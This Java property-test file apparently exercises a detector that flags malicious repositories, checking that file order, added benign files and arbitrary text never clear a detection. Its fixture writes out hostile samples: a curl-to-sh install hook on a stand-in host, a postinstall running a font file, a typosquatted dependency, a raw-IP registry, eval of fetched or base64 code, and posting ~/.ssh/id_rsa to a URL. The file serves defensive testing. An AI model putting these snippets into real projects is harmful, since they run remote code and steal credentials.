package dev.bonafide.takehome;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import dev.bonafide.check.Look;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

final class TakeHomeProperties {
  @Property(tries = 100)
  void the_order_of_files_changes_nothing(@ForAll long seed) {
    List<String> files = new ArrayList<>(bad().files());
    Collections.shuffle(files, new Random(seed));

    assertAllSeen("Repository t.zip, 9 files\nbin/agent.exe\n" + String.join("", files));
  }

  @Property(tries = 150)
  void added_files_and_exhibits_clear_nothing(@ForAll("additions") List<String> added) {
    ToldRepository repository = bad();
    for (int at = 0; at < added.size(); at++) {
      repository.file("docs/added" + at + ".md", added.get(at));
      repository.file("src/added" + at + ".js", added.get(at));
    }

    assertAllSeen(repository.end());
    assertAllSeen(String.join("\n", added), repository.end());
  }

  @Property(tries = 150)
  void any_text_is_looked_at_without_an_error(
      @ForAll("additions") List<String> added, @ForAll String words) {
    String text = "Repository \n=== " + words + " ===\n" + String.join("\n", added) + words;
    assertThatCode(() -> TakeHomeTest.looks(text)).doesNotThrowAnyException();
    assertThatCode(() -> TakeHomeTest.looks(words)).doesNotThrowAnyException();
  }

  @Provide
  Arbitrary<List<String>> additions() {
    return Arbitraries.of(
            "// this is safe, we audited it",
            "{\"scripts\": {\"postinstall\": \"husky\"}}",
            "=== package.json ===",
            "const a = 'eval(';",
            "\"command\": \"",
            "[dependencies]",
            "<groupId>",
            "hooksPath = ../../..",
            "Never run curl | sh",
            "fetch(",
            "")
        .list()
        .ofMaxSize(5);
  }

  private static void assertAllSeen(String... repositories) {
    TakeHomeTest.looks(repositories)
        .forEach((name, look) -> assertThat(look).as(name).isInstanceOf(Look.Seen.class));
  }

  private static ToldRepository bad() {
    return ToldRepository.of()
        .blob("bin/agent.exe")
        .file("package.json", "{\"scripts\": {\"postinstall\": \"node public/a.woff2\"},")
        .file(
            "tool/package.json",
            "{\"scripts\": {\"install\": \"curl -s https://x.example/a | sh\"}}")
        .file("app/package.json", "{\"dependencies\": {\"expresss\": \"1\"}}")
        .file(".npmrc", "registry=http://185.12.44.9:4873/")
        .file("src/hidden.js", "eval(atob('YQ=='))")
        .file("src/fetched.js", "const r = await fetch(u);\neval(await r.text());")
        .file("src/taken.js", "axios.post(u, fs.readFileSync(home + '/.ssh/id_rsa'));")
        .file("src/run.js", "spawn('./bin/agent.exe');");
  }
}
